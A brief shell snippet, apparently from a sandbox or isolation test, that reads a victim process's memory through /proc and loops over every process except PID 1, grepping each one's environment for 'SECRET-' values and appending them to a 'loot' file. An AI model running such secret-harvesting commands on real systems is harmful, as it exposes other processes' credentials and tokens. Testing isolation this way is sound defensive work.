head -c 16 "/proc/$VICTIM/mem" && echo SECRET-memory >> "$FILES/loot"
for process in /proc/[0-9]*; do
  [ "$process" = /proc/1 ] || tr '\0' '\n' < "$process/environ" | grep SECRET- >> "$FILES/loot"
done
